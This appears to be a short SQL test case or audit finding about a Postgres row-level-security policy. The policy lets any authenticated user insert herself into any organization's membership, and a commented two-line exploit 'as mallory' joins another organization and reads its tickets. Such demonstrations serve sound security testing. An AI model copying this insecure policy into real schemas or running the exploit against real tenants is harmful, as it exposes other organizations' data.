-- channel: escalation
-- object: public.organization_members
-- says: Self-service onboarding lets a user write her own membership of any organization.
grant insert on public.organization_members to authenticated;
create policy members_insert on public.organization_members for insert to authenticated
with check (user_id = (select auth.uid()));
-- exploit as mallory
insert into public.organization_members (org_id, user_id) values (:org_b, auth.uid());
select from public.tickets where org_id = :org_b;
-- leaks when rows
